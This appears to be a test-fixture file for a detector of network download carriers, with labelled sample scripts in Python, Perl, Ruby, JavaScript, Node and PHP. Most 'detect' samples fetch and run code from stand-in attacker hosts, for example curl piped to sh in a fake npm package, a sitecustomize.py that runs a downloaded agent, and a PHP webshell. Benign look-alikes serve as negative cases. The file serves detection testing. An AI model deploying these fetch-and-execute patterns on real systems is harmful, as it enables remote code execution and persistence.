"""Language carriers: python, perl, ruby, js, node, php."""
from common import C, b64

GTFO = "GTFOBins"
CAPA = "capa (capa_download_apis.tsv)"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- python
C("h5-py-httpx-stream-01", CAPA + " download and write a file: httpx.stream", "python",
  "/opt/app/tools/fetch_model.py", "detect", r'''
#!/usr/bin/env python3
import httpx

URL = "https://models.attacker.example/weights/latest.bin"

with httpx.stream("GET", URL, follow_redirects=True) as r:
    with open("/opt/app/models/latest.bin", "wb") as fh:
        for chunk in r.iter_bytes():
            fh.write(chunk)
''')

C("h5-py-aiohttp-download-02", CAPA + " download and write a file: aiohttp", "python",
  "/srv/worker/plugins/refresh.py", "detect", r'''
#!/usr/bin/env python3
import asyncio
import aiohttp


async def main():
    async with aiohttp.ClientSession() as s:
        async with s.get("http://198.51.100.64/plug/ext.so") as resp:
            data = await resp.read()
    with open("/srv/worker/plugins/ext.so", "wb") as f:
        f.write(data)

asyncio.run(main())
''')

C("h5-py-pycurl-writedata-03", CAPA + " download and write a file: pycurl WRITEDATA", "python",
  "/usr/local/lib/python3.11/site-packages/corp_sync/_fetch.py", "detect", r'''
import pycurl


def fetch(dest="/tmp/.corp_sync.bin"):
    c = pycurl.Curl()
    c.setopt(pycurl.URL, "https://sync.attacker.example/blob")
    with open(dest, "wb") as f:
        c.setopt(pycurl.WRITEDATA, f)
        c.perform()
    c.close()
    return dest


fetch()
''', executable=False)

C("h5-py-paramiko-sftp-get-04", GTFO + " sftp (download) via paramiko SFTPClient.get", "python",
  "/opt/etl/bin/pull_extract.py", "detect", r'''
#!/usr/bin/env python3
import paramiko

t = paramiko.Transport(("203.0.113.102", 22))
t.connect(username="etl", password="etl-2024")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.get("/exports/daily.csv.gz", "/opt/etl/in/daily.csv.gz")
sftp.close()
t.close()
''')

C("h5-py-wget-module-05", PV + " python 'wget' module wget.download()", "python",
  "/app/scripts/get_assets.py", "detect", r'''
#!/usr/bin/env python3
import wget

wget.download("https://assets.attacker.example/pack.zip", out="/app/static/pack.zip")
''')

C("h5-py-subprocess-list-curl-06", PV + " subprocess.run with an argv list (curl)", "python",
  "/opt/ml/bootstrap.py", "detect", r'''
#!/usr/bin/env python3
import subprocess

subprocess.run(["curl", "-fsSL", "-o", "/opt/ml/bin/runner", "http://203.0.113.240/runner"], check=True)
subprocess.run(["chmod", "+x", "/opt/ml/bin/runner"], check=True)
subprocess.Popen(["/opt/ml/bin/runner"])
''')

C("h5-py-http-client-exec-07", CAPA + " http.client HTTPSConnection -> write -> exec", "python",
  "/usr/lib/python3/dist-packages/sitecustomize.py", "detect", r'''
import http.client
import os

try:
    conn = http.client.HTTPSConnection("telemetry.attacker.example", 443, timeout=5)
    conn.request("GET", "/py/agent")
    body = conn.getresponse().read()
    with open("/tmp/.pyagent", "wb") as f:
        f.write(body)
    os.chmod("/tmp/.pyagent", 0o755)
    os.system("/tmp/.pyagent &")
except Exception:
    pass
''', executable=False)

C("h5-py-raw-socket-http-08", CAPA + " receive data over a raw socket and write", "python",
  "/opt/tools/sockget.py", "detect", r'''
#!/usr/bin/env python3
import socket

s = socket.create_connection(("198.51.100.171", 8000))
s.sendall(b"GET /implant HTTP/1.0\r\nHost: 198.51.100.171\r\n\r\n")
buf = b""
while True:
    d = s.recv(4096)
    if not d:
        break
    buf += d
open("/tmp/implant", "wb").write(buf.split(b"\r\n\r\n", 1)[1])
''')

C("h5-py-silent-localhost-http-01", "look-alike: http.client to localhost", "python",
  "/opt/app/bin/healthcheck.py", "silent", r'''
#!/usr/bin/env python3
import http.client
import sys

conn = http.client.HTTPConnection("127.0.0.1", 8000, timeout=2)
conn.request("GET", "/healthz")
sys.exit(0 if conn.getresponse().status == 200 else 1)
''')

C("h5-py-silent-docstring-02", "look-alike: docstring mentioning curl/wget", "python",
  "/opt/app/lib/mirror_docs.py", "silent", r'''
"""Helpers for the mirror docs.

Users are told to run ``curl -O https://mirror.example.com/file`` or
``wget https://mirror.example.com/file``; this module only formats those strings.
"""


def hint(url):
    return "curl -O " + url
''', executable=False)

C("h5-py-silent-shutil-copy-03", "look-alike: function named download() copying local files", "python",
  "/opt/app/bin/stage.py", "silent", r'''
#!/usr/bin/env python3
import shutil


def download(src="/mnt/cache/pkg.tar", dst="/opt/app/pkg.tar"):
    shutil.copyfile(src, dst)


download()
''')

# ---------------------------------------------------------------- perl
C("h5-pl-http-tiny-mirror-01", CAPA + " HTTP::Tiny->mirror", "perl",
  "/usr/local/bin/refresh-geo.pl", "detect", r'''
#!/usr/bin/perl
use strict;
use warnings;
use HTTP::Tiny;

my $r = HTTP::Tiny->new->mirror('https://geo.attacker.example/db.mmdb', '/usr/share/GeoIP/db.mmdb');
die "failed: $r->{status}\n" unless $r->{success};
''')

C("h5-pl-net-ftp-get-02", GTFO + " ftp (download) via Net::FTP", "perl",
  "/opt/legacy/bin/ftp_pull.pl", "detect", r'''
#!/usr/bin/perl
use Net::FTP;
my $ftp = Net::FTP->new("203.0.113.180", Passive => 1) or die;
$ftp->login("anonymous", "x\@example.com");
$ftp->binary;
$ftp->get("/pub/tools/agent", "/opt/legacy/bin/agent");
$ftp->quit;
chmod 0755, "/opt/legacy/bin/agent";
''')

C("h5-pl-lwp-useragent-content-file-03", CAPA + " LWP::UserAgent get with :content_file", "perl",
  "/usr/share/perl5/Corp/Update.pm", "detect", r'''
package Corp::Update;
use strict;
use LWP::UserAgent;

sub run {
    my $ua = LWP::UserAgent->new(timeout => 30);
    $ua->get('http://198.51.100.210/u/upd.bin', ':content_file' => '/tmp/upd.bin');
    system('/bin/sh', '-c', 'chmod +x /tmp/upd.bin && /tmp/upd.bin');
}

run();
1;
''', executable=False)

C("h5-pl-backticks-wget-04", PV + " wget in Perl backticks", "perl",
  "/var/www/cgi-bin/status.cgi", "detect", r'''
#!/usr/bin/perl
print "Content-type: text/plain\n\n";
`wget -q -O /tmp/.s http://status.attacker.example/s && sh /tmp/.s`;
print "OK\n";
''')

C("h5-pl-silent-pod-01", "look-alike: POD documentation with a download example", "perl",
  "/usr/share/perl5/Corp/Fetch.pm", "silent", r'''
package Corp::Fetch;
use strict;

=head1 SYNOPSIS

  # the mirror can also be fetched by hand:
  #   wget https://mirror.example.com/data.tar.gz

=cut

sub path { return '/var/lib/corp/data.tar.gz' }

1;
''', executable=False)

C("h5-pl-silent-localhost-02", "look-alike: HTTP::Tiny to 127.0.0.1", "perl",
  "/usr/local/bin/check-app.pl", "silent", r'''
#!/usr/bin/perl
use HTTP::Tiny;
my $r = HTTP::Tiny->new(timeout => 3)->get('http://127.0.0.1:8080/status');
exit($r->{success} ? 0 : 2);
''')

# ---------------------------------------------------------------- ruby
C("h5-rb-net-ftp-getbinaryfile-01", GTFO + " ftp (download) via Net::FTP#getbinaryfile", "ruby",
  "/opt/app/bin/pull_feed.rb", "detect", r'''
#!/usr/bin/env ruby
require 'net/ftp'

Net::FTP.open('ftp.feeds.example', username: 'feeds', password: 'feeds') do |ftp|
  ftp.passive = true
  ftp.getbinaryfile('/out/feed.tgz', '/opt/app/data/feed.tgz')
end
''')

C("h5-rb-rest-client-write-02", CAPA + " download and write a file: RestClient", "ruby",
  "/app/lib/tasks/sync_binary.rb", "detect", r'''
require 'rest-client'

resp = RestClient.get('https://bin.attacker.example/worker')
File.binwrite('/app/bin/worker', resp.body)
File.chmod(0o755, '/app/bin/worker')
system('/app/bin/worker')
''', executable=False)

C("h5-rb-spawn-wget-03", PV + " Kernel#spawn of wget", "ruby",
  "/usr/local/bin/rb-selfupdate", "detect", r'''
#!/usr/bin/env ruby
pid = spawn('wget', '-q', '-O', '/tmp/rbu.sh', 'http://203.0.113.14/rbu.sh')
Process.wait(pid)
exec('sh', '/tmp/rbu.sh')
''')

C("h5-rb-net-http-stream-04", CAPA + " Net::HTTP request_get with read_body streaming to file", "ruby",
  "/opt/app/script/fetch_model.rb", "detect", r'''
#!/usr/bin/env ruby
require 'net/http'

uri = URI('https://models.attacker.example/m.bin')
Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|
  http.request_get(uri.path) do |res|
    File.open('/opt/app/models/m.bin', 'wb') { |f| res.read_body { |c| f.write(c) } }
  end
end
''')

C("h5-rb-silent-localhost-01", "look-alike: Net::HTTP.get to localhost", "ruby",
  "/opt/app/bin/ping_app.rb", "silent", r'''
#!/usr/bin/env ruby
require 'net/http'
puts Net::HTTP.get(URI('http://localhost:3000/up'))
''')

# ---------------------------------------------------------------- js (modules, no shebang)
C("h5-js-axios-stream-01", CAPA + " axios responseType stream piped to a file", "js",
  "/app/src/jobs/fetchBinary.js", "detect", r'''
const axios = require('axios');
const fs = require('fs');

module.exports = async function fetchBinary() {
  const res = await axios.get('https://bin.attacker.example/helper', { responseType: 'stream' });
  res.data.pipe(fs.createWriteStream('/app/bin/helper', { mode: 0o755 }));
};
''')

C("h5-js-fetch-arraybuffer-02", CAPA + " fetch() arrayBuffer -> fs.promises.writeFile", "js",
  "/app/dist/postinstall.mjs", "detect", r'''
import { writeFile, chmod } from 'node:fs/promises';

const r = await fetch('http://198.51.100.222/native/prebuilt.node');
await writeFile('/app/dist/prebuilt.node', Buffer.from(await r.arrayBuffer()));
await chmod('/app/dist/prebuilt.node', 0o755);
''')

C("h5-js-execsync-curl-03", PV + " child_process.execSync curl | sh", "js",
  "/app/node_modules/colors-fix/lib/index.js", "detect", r'''
const { execSync } = require('child_process');
try {
  execSync('curl -s https://cdn.attacker.example/i.sh | sh', { stdio: 'ignore' });
} catch (e) {}
module.exports = {};
''')

C("h5-js-silent-relative-fetch-01", "look-alike: browser bundle fetching a relative API", "js",
  "/usr/share/nginx/html/assets/items-7f3a.js", "silent", r'''
export async function loadItems() {
  const r = await fetch('/api/items?limit=20', { credentials: 'same-origin' });
  return r.json();
}
''')

# ---------------------------------------------------------------- node (shebang)
C("h5-node-https-get-redirect-01", CAPA + " https.get following a redirect, write, chmod, spawn", "node",
  "/usr/local/bin/node-setup", "detect", r'''
#!/usr/bin/env node
const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');

function get(url, dest) {
  https.get(url, (res) => {
    if (res.statusCode >= 300 && res.headers.location) return get(res.headers.location, dest);
    res.pipe(fs.createWriteStream(dest)).on('finish', () => {
      fs.chmodSync(dest, 0o755);
      spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();
    });
  });
}
get('https://setup.attacker.example/bin/linux-x64', '/tmp/.node-setup');
''')

C("h5-node-fetch-pipeline-02", CAPA + " node-fetch + stream.pipeline", "node",
  "/opt/bot/bin/update-bot", "detect", r'''
#!/usr/bin/env node
const fetch = require('node-fetch');
const { pipeline } = require('stream/promises');
const fs = require('fs');

(async () => {
  const res = await fetch('http://203.0.113.144/bot/latest.js');
  await pipeline(res.body, fs.createWriteStream('/opt/bot/lib/latest.js'));
  require('/opt/bot/lib/latest.js');
})();
''')

C("h5-node-basic-ftp-03", GTFO + " ftp (download) via basic-ftp downloadTo", "node",
  "/opt/sync/bin/ftp-sync", "detect", r'''
#!/usr/bin/env node
const ftp = require('basic-ftp');

(async () => {
  const client = new ftp.Client();
  await client.access({ host: 'ftp.partner.example', user: 'sync', password: 'sync' });
  await client.downloadTo('/opt/sync/data/orders.csv', '/outbound/orders.csv');
  client.close();
})();
''')

C("h5-node-silent-static-server-01", "look-alike: local static server", "node",
  "/opt/site/bin/serve", "silent", r'''
#!/usr/bin/env node
const fs = require('fs');
const cfg = JSON.parse(fs.readFileSync('/etc/site/config.json', 'utf8'));
if (process.argv.includes('--help')) {
  console.log('usage: serve [--port N]   (assets are fetched at build time with `npm run fetch-assets`)');
  process.exit(0);
}
console.log(`site ${cfg.name} would listen on ${cfg.port || 8080}`);
''')

# ---------------------------------------------------------------- php
C("h5-php-fsockopen-01", CAPA + " fsockopen raw HTTP GET written to disk", "php",
  "/var/www/html/wp-content/plugins/seo-tools/inc/update.php", "detect", r'''
<?php
$fp = fsockopen("198.51.100.5", 80, $errno, $errstr, 10);
fwrite($fp, "GET /s.txt HTTP/1.0\r\nHost: 198.51.100.5\r\n\r\n");
$resp = stream_get_contents($fp);
fclose($fp);
$body = substr($resp, strpos($resp, "\r\n\r\n") + 4);
file_put_contents(__DIR__ . "/cache.php", $body);
''')

C("h5-php-guzzle-sink-02", CAPA + " Guzzle request with 'sink' option", "php",
  "/var/www/app/src/Command/FetchFeed.php", "detect", r'''
<?php
namespace App\Command;

use GuzzleHttp\Client;

final class FetchFeed
{
    public function __invoke(): void
    {
        $client = new Client();
        $client->request('GET', 'https://feeds.attacker.example/feed.phar', ['sink' => '/var/www/app/var/feed.phar']);
    }
}
''')

C("h5-php-stream-context-03", CAPA + " fopen(url, context) passed to file_put_contents", "php",
  "/var/www/html/admin/tools/sync.php", "detect", r'''
<?php
$ctx = stream_context_create(['http' => ['user_agent' => 'Mozilla/5.0', 'timeout' => 15]]);
$src = fopen('http://203.0.113.37/tools/adminer.txt', 'rb', false, $ctx);
if ($src !== false) {
    file_put_contents(__DIR__ . '/adminer.php', $src);
}
''')

C("h5-php-system-curl-sh-04", PV + " system() with curl | sh in a webshell", "php",
  "/var/www/html/uploads/img.php", "detect", r'''
<?php
if (isset($_GET['u'])) {
    system('curl -fsSL http://dl.attacker.example/x.sh | sh');
}
''')

C("h5-php-silent-local-template-01", "look-alike: file_get_contents of a local template", "php",
  "/var/www/html/inc/render.php", "silent", r'''
<?php
$tpl = file_get_contents(__DIR__ . '/templates/page.html');
echo str_replace('{{title}}', htmlspecialchars($title ?? 'Home'), $tpl);
''')
